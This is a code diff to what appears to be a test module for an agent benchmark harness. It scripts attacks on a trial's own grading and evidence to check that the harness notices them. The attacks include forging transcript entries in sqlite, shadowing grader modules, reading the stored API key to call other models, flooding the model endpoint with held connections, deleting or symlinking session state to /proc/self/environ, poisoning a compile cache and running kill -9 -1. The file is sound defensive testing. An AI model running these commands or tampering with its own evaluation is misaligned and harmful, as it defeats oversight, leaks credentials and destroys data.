@@ -10,19 +10,19 @@ from attacks.scripts import ATTACKS, INHERITED
 from attacks.world import SECRET
 from pinchbench import Reason, RunConfig, run_benchmark
 from pinchbench.defaults import Sandbox
-from pinchbench.model.facts import Integrity
+from pinchbench.files.user_data import cache_dir
 from pinchbench.model.grade import Ungraded
 from pinchbench.model.trial import TrialKey
 from pinchbench.openclaw.homes import compiled_code
-from pinchbench.openclaw.install import cache_dir
-from pinchbench.results.evidence import Evidence, file_digest
+from pinchbench.results.evidence_files import Evidence, file_digest
 from pinchbench.results.finished_run import read_run
 from pinchbench.results.paths import find_run
-from pinchbench.transcript.conversation import Role, read_conversation
+from pinchbench.transcripts import Role, read_conversation
 from processes import living
 from real_openclaw import TaskFile, write_suite
 
 if TYPE_CHECKING:
+    from collections.abc import Mapping
     from pathlib import Path
 
     from attacks.world import World
@@ -38,9 +38,16 @@ ALONE = {  # attacks on the trial's own evidence and grading, each in a trial of
     "task_shadow": "shadow the check's modules",
     "task_program": "end the own check",
     "task_late": "write the answer after the end",
+    "task_model": "ask a model from a command",
+    "task_hold": "hold the wire's connections and requests",
+    "task_settings": "change OpenClaw's settings",
+    "task_recall": "read an earlier session",
+    "task_delete": "delete the own session",
+    "task_replace": "put a link in the session's place",
     "task_end_itself": "end the own agent",
     "task_end_all": "end all processes",
 }
+ON_STATE = ("task_settings", "task_recall", "task_delete", "task_replace")
 
 # Asks for what no attacker has done honestly: each of the tasks below would score 1.0 if its attack worked.
 EXPECTS_FILE = f"""
@@ -55,7 +62,7 @@ import json
 
 def grade(transcript, workspace_path):
     said = [part.get("text", "") for entry in transcript for part in (entry.get("message") or {}).get("content") or []
-            if (entry.get("message") or {}).get("role") == "assistant" and isinstance(part, dict)]
+            if (entry.get("message") or {}).get("role") != "user" and isinstance(part, dict)]
     return {"said": float("kingfisher" in " ".join(said))}
 """
 EXPECTS_PROGRAM = f"""
@@ -76,6 +83,11 @@ for path in glob.glob(state + "/**/*.sqlite", recursive=True):
     except sqlite3.Error:
         continue
     for session, seq, text in rows:
+        if text and '"toolResult"' in text:
+            event = json.loads(text)
+            event["message"]["content"] = said["content"]
+            store.execute("UPDATE transcript_events SET event_json = ? WHERE session_id = ? AND seq = ?",
+                          (json.dumps(event), session, seq))
         if text and '"assistant"' in text:
             event = json.loads(text)
             event["message"]["content"].append(said["content"][0])
@@ -114,12 +126,59 @@ time.sleep(1)
 with open("answer.txt", "w") as file:
     file.write({SECRET!r})
 """
+# Asks a stronger model, by the address and the key that OpenClaw has for its own, and for files of other trials.
+ASK = f"""
+import json, os, urllib.request
+state = os.environ.get("OPENCLAW_STATE_DIR", "/state")
+for path in (os.environ.get("OPENCLAW_CONFIG_PATH"), f"{{state}}/openclaw.json", f"{{state}}/config.json"):
+    if path and os.path.exists(path):
+        break
+provider = next(iter(json.load(open(path))["models"]["providers"].values()))
+head = {{"Authorization": f"Bearer {{provider.get('apiKey')}}", "Content-Type": "application/json"}}
+stronger = json.dumps({{"model": "stronger", "messages": [{{"role": "user", "content": "Hello."}}]}}).encode()
+for rest, body in (("/chat/completions", stronger), ("/chat/completion%73", stronger), ("/files", b"{{}}")):
+    try:
+        urllib.request.urlopen(urllib.request.Request(provider["baseUrl"] + rest, body, head), timeout=30).read()
+    except Exception as error:
+        print("refused", rest, error)
+    else:
+        print("answered", rest)
+        open("answer.txt", "w").write({SECRET!r})
+"""
+# Opens more connections than the wire has, and leaves a request unfinished on each while its trial goes on.
+HOLD = """
+import json, os, socket, sys, time, urllib.parse
+state = os.environ.get("OPENCLAW_STATE_DIR", "/state")
+for path in (os.environ.get("OPENCLAW_CONFIG_PATH"), f"{state}/openclaw.json", f"{state}/config.json"):
+    if path and os.path.exists(path):
+        break
+place = urllib.parse.urlsplit(next(iter(json.load(open(path))["models"]["providers"].values()))["baseUrl"])
+if os.fork():
+    sys.exit()
+held = []
+for _ in range(600):
+    try:
+        held.append(socket.create_connection((place.hostname, place.port), timeout=1))
+        held[-1].send(b"POST %s/chat/completions HTTP/1.1\\r\\nHost: a\\r\\n" % place.path.encode())
+        held[-1].send(b"Content-Length: 99999999\\r\\n\\r\\n" + b" " * 60_000)
+    except OSError:
+        pass
+time.sleep(600)
+"""
 # Puts other code where OpenClaw keeps its compiled code, for the trials that come later.
 POISON = """
 for file in $(find -L $TMPDIR/node-compile-cache -type f | head -20); do
     echo evil > $file; rm -f $file; mv $file $file.old
 done
 cd $TMPDIR/node-compile-cache/openclaw/*/*/* && echo evil > evil && echo poisoned
+"""
+SETTINGS = "echo '{}' > $OPENCLAW_CONFIG_PATH; mkdir -p $OPENCLAW_STATE_DIR/hooks/evil; echo changed"
+RECALL = "grep -raohE 'moonstone-[0-9]+' $OPENCLAW_STATE_DIR > answer.txt; echo searched"
+DELETE = "rm -rf $OPENCLAW_STATE_DIR/agents; echo deleted"
+REPLACE = """
+cd $OPENCLAW_STATE_DIR/agents/*/ && for file in sessions/*.jsonl agent/*.sqlite; do
+    test -e $file && ln -sf /proc/self/environ $file
+done; echo replaced
 """
 SHADOW = "import builtins\\ndef grade(*_): return {'answer': 1.0}\\n"
 
@@ -148,8 +207,16 @@ def _alone(world: World) -> list[TaskFile]:
     """Attacks on the trial's own evidence and grading, each in a trial of its own."""
     forge = [_write("forge.py", FORGE), _exec("python3 forge.py")]
     shadow = f'for name in pathlib json builtins sitecustomize; do printf "{SHADOW}" > $name.py; done'
+    ask = [_write("ask.py", ASK), _exec("python3 ask.py")]
+    hold = [_write("hold.py", HOLD), _exec("python3 hold.py > /dev/null 2>&1")]
     late = [_write("late.py", LATE), _exec("env -i /usr/bin/python3 late.py < /dev/null > /dev/null 2>&1")]
     # without a sandbox this would end the tests, and whatever else the user runs
+    recall = TaskFile(
+        task_id="task_recall",
+        turns=[(f"The word is {SECRET}.", [], "Noted."), ("Do it.", [_exec(RECALL)], "Done.")],
+        new_session=frozenset({1}),
+        check=EXPECTS_FILE,
+    )
     end_all = f"test -e /proc/{os.getpid()} || kill -9 -1"
     return [
         _task("task_forge", forge, EXPECTS_WORD),
@@ -157,6 +224,12 @@ def _alone(world: World) -> list[TaskFile]:
         _task("task_shadow", [_exec(shadow)], EXPECTS_FILE),
         _task("task_program", [_write("tool.sh", TOOL)], EXPECTS_PROGRAM),
         _task("task_late", late, EXPECTS_FILE),
+        _task("task_model", ask, EXPECTS_FILE),
+        _task("task_hold", hold, EXPECTS_FILE),
+        _task("task_settings", [_exec(SETTINGS)], EXPECTS_FILE),
+        recall,
+        _task("task_delete", [_exec(DELETE)], EXPECTS_FILE),
+        _task("task_replace", [_exec(REPLACE)], EXPECTS_FILE),
         _task("task_end_itself", [_exec("kill -9 $PPID; kill -9 $(ps -o ppid= -p $PPID)")], EXPECTS_FILE),
         _task("task_end_all", [_exec(end_all)], EXPECTS_FILE),
     ]
@@ -222,24 +295,23 @@ async def attack(openclaw: OpenClaw, folder: Path, world: World, **settings: obj
     poisons = [text for one in run.outcomes if one.key.task_id == "task_poison" for text in _told(result.folder, one)]
     if any("poisoned" in text for text in poisons) or any(after[name] != files for name, files in before.items()):
         worked.add(POISONED)
+    replaced = [result.folder / one.evidence for one in run.outcomes if one.key.task_id == "task_replace"]
+    if any(os.environ["PATH"].encode() in path.read_bytes() for folder in replaced for path in folder.rglob("*.jsonl")):
+        worked.add(ALONE["task_replace"])
     return replace(found, worked=worked)
 
 
 def silent(run: PastRun) -> list[str]:
-    """Return the trials that count, have more than the 0 that they earned, and are not named."""
-    return [
-        str(outcome.key)
-        for outcome in run.outcomes
-        if run.score(outcome.key) and (outcome.sandbox is None or outcome.sandbox.integrity is not Integrity.TAMPERED)
-    ]
+    """Return the trials that count and have more than the 0 that they earned."""
+    return [str(outcome.key) for outcome in run.outcomes if run.score(outcome.key)]
 
 
 def silent_attacks(found: Attempted) -> set[str]:
     """Return the names of those attacks of `ALONE` after which a score is wrong or missing without a word."""
     run = found.run
     by_task = {one.key.task_id: one for one in run.outcomes}
-    wrong = {key.partition("@")[0] for key in silent(run)}
-    if by_task["task_forge"].reason is not Reason.TAMPERED:
+    wrong = {key.partition("@")[0] for key in silent(run)} | _unnoticed_on_state(run, by_task)
+    if not by_task["task_forge"].findings:  # graders have not read what was forged, but the user is to hear of it
         wrong.add("task_forge")
     for task in ("task_end_itself", "task_end_all"):  # no score that is missing without a word
         key = by_task[task].key
@@ -248,7 +320,22 @@ def silent_attacks(found: Attempted) -> set[str]:
     key = by_task["task_program"].key  # it ends its own check
     if run.score(key) is not None or run.grades[key].ungraded is not Ungraded.CHECK_DIED:
         wrong.add("task_program")
-    for task in ("task_link", "task_shadow", "task_late"):
+    facts = by_task["task_model"].sandbox
+    if facts is not None and not any("a connection by" in attempt for attempt in facts.attempts):
+        wrong.add("task_model")
+    for task in ("task_forge", "task_link", "task_shadow", "task_late", "task_model", "task_hold"):
         if (by_task[task].reason, run.score(by_task[task].key)) != (Reason.COMPLETED, 0.0):
             wrong.add(task)
     return {ALONE.get(task, task) for task in wrong}
+
+
+def _unnoticed_on_state(run: PastRun, by_task: Mapping[str, Outcome]) -> set[str]:
+    """Return the tasks of `ON_STATE` whose attack earned a retry or another score, or is not named."""
+    return {
+        task
+        for task in by_task.keys() & ON_STATE
+        if not by_task[task].reason.is_valid
+        or run.score(by_task[task].key) != 0.0
+        or by_task[task].attempt != 1
+        or (task != "task_recall" and not by_task[task].findings)  # it finds nothing, and so there is nothing to name
+    }
